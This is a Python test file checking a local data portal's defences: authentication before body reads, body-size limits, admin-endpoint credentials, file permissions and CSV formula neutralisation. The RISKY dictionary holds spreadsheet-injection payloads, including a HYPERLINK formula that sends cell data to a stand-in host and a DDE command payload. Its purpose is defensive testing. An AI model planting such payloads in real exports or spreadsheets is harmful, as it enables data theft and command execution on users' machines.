"""Issue 18, item 5: the local portal resists careless or hostile clients on the same machine.

One test per point: credentials are checked before a body is read; bodies are capped (413) and a
huge declared size allocates nothing; admin endpoints need the portal's credentials; its files
are private; its CSV exports neutralise formulas. (Deeply nested SoQL: `test_soql.py::
test_hostile_where_clauses_are_400_not_500`.)
"""

from __future__ import annotations

import base64
import csv
import http.client
import io
import json
import stat
import tracemalloc

import pytest
import requests

from datos_cali.localportal import FaultSettings, LocalPortal
from datos_cali.localportal.portal import MAX_BODY_ENV, max_body_from_env
from tests.localportal.helpers import auth_of, public_dataset

GIGABYTE = 1 << 30


def _headers_only(portal: LocalPortal, method: str, path: str, length: int, auth=None):
    """Send a request's headers announcing `length` body bytes, send none, read the answer.

    If the server tried to read the body first, no answer would come (the read times out)."""
    connection = http.client.HTTPConnection(portal.host, portal.port, timeout=5)
    connection.putrequest(method, path)
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Content-Length", str(length))
    if auth:
        token = base64.b64encode(f"{auth[0]}:{auth[1]}".encode()).decode()
        connection.putheader("Authorization", f"Basic {token}")
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response.status, dict(response.getheaders()), body


def test_an_anonymous_upload_is_refused_before_its_body_is_read(portal, client):
    dataset = public_dataset(client)
    for method, path in [
        ("POST", f"/resource/{dataset}.json"),
        ("PUT", f"/resource/{dataset}.json"),
        ("POST", "/api/views.json"),
        ("PUT", f"/api/views/{dataset}.json"),
        ("PUT", "/_portal/faults"),
    ]:
        status, headers, body = _headers_only(portal, method, path, GIGABYTE)
        assert status == 401, (method, path)
        assert json.loads(body)["message"].startswith("You must be logged in")
        assert headers["Connection"] == "close"
    status, _headers, _body = _headers_only(
        portal, "POST", f"/resource/{dataset}.json", GIGABYTE, auth=("x", "wrong")
    )
    assert status == 403
    assert client.get(dataset) == []  # nothing was written


def test_a_declared_terabyte_is_413_at_once_and_allocates_nothing(portal, client):
    dataset = public_dataset(client)
    tracemalloc.start()
    try:
        status, _headers, body = _headers_only(
            portal, "POST", f"/resource/{dataset}.json", 10**12, auth=auth_of(portal)
        )
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert status == 413
    error = json.loads(body)
    assert error["error"] is True and error["code"] == "request_too_large"
    assert peak < 8 << 20  # bytes allocated while answering (the whole test process)
    client.upsert(dataset, [{"codigo": "A"}])  # the portal is fine afterwards
    assert client.get(dataset) == [{"codigo": "A"}]


def test_the_body_limit_is_configurable_and_chunked_bodies_are_counted(tmp_path, monkeypatch):
    monkeypatch.setenv(MAX_BODY_ENV, "0.0625")  # 64 KiB
    assert max_body_from_env() == 64 * 1024
    with LocalPortal(tmp_path / "portal").start() as portal:
        assert portal.max_body_bytes == 64 * 1024
        with requests.Session() as owner:
            owner.auth = auth_of(portal)
            view = owner.post(
                f"{portal.url}/api/views.json",
                json={"name": "x", "columns": [{"fieldName": "t", "dataTypeName": "text"}]},
            ).json()
            url = f"{portal.url}/resource/{view['id']}.json"
            small = [{"t": "a" * 100}] * 100  # ~11 KB
            assert owner.post(url, json=small).status_code == 200
            big = json.dumps([{"t": "a" * 1000}] * 300).encode()  # ~300 KB
            answer = owner.post(url, data=big, headers={"Content-Type": "application/json"})
            assert answer.status_code == 413 and answer.json()["code"] == "request_too_large"
            chunked = owner.post(
                url,
                data=(big[i : i + 8192] for i in range(0, len(big), 8192)),  # no Content-Length
                headers={"Content-Type": "application/json"},
            )
            assert chunked.status_code == 413
            assert owner.get(url, params={"$select": "count(*)"}).json() == [{"count": "100"}]
    monkeypatch.setenv(MAX_BODY_ENV, "mucho")
    with pytest.raises(ValueError, match="debe ser un número positivo de megabytes"):
        max_body_from_env()


def test_admin_endpoints_need_the_portal_credentials(portal, client):
    public_dataset(client)
    before = len(portal.request_log())
    anonymous = [
        requests.get(f"{portal.url}/_portal/requests.json", timeout=5),
        requests.delete(f"{portal.url}/_portal/requests.json", timeout=5),
        requests.get(f"{portal.url}/_portal/faults", timeout=5),
        requests.put(f"{portal.url}/_portal/faults", json={"rate_500": 1}, timeout=5),
    ]
    assert [answer.status_code for answer in anonymous] == [401, 401, 401, 401]
    wrong = requests.put(
        f"{portal.url}/_portal/faults", json={"rate_500": 1}, auth=("a", "b"), timeout=5
    )
    assert wrong.status_code == 403
    assert portal.faults.settings == FaultSettings()  # nothing changed
    assert len(portal.request_log()) == before  # nothing erased
    assert requests.get(f"{portal.url}/_portal/health", timeout=5).status_code == 200
    owner = requests.delete(f"{portal.url}/_portal/requests.json", auth=auth_of(portal), timeout=5)
    assert owner.status_code == 200 and portal.request_log() == []


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_holding_the_credentials_is_private(tmp_path, client, portal):
    folder = portal.data_dir
    public_dataset(client)  # writes: the WAL and shared-memory files exist now
    files = sorted(folder.glob("portal.sqlite*"))
    assert [f.name for f in files] == ["portal.sqlite", "portal.sqlite-shm", "portal.sqlite-wal"]
    assert {f.name: _mode(f) for f in files} == {f.name: 0o600 for f in files}
    assert _mode(folder) == 0o700
    # A database left world-readable by an older version is tightened on the next start.
    old = tmp_path / "old"
    old.mkdir()
    LocalPortal(old).store.close()
    (old / "portal.sqlite").chmod(0o644)
    LocalPortal(old).store.close()
    assert _mode(old / "portal.sqlite") == 0o600


RISKY = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"ver")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_csv_exports_neutralise_formulas_and_keep_numbers(portal, client):
    dataset = public_dataset(client)
    rows = [{"codigo": text, "comuna": key, "valor": -5} for key, text in RISKY.items()]
    client.upsert(dataset, rows)
    assert {r["codigo"] for r in client.get(dataset)} == set(RISKY.values())  # API: as sent
    exports = {
        "rows.csv": requests.get(f"{portal.url}/api/views/{dataset}/rows.csv", timeout=10).text,
        "resource.csv": requests.get(
            f"{portal.url}/resource/{dataset}.csv", params={"$order": ":id"}, timeout=10
        ).text,
    }
    for name, text in exports.items():
        table = list(csv.reader(io.StringIO(text, newline="")))
        header, body = table[0], table[1:]
        codigo, valor = header.index(header[0]), 2
        cells = [row[codigo] for row in body]
        assert cells == ["'" + value for value in RISKY.values()], name
        assert {row[valor] for row in body} == {"-5"}, name  # numbers stay numbers
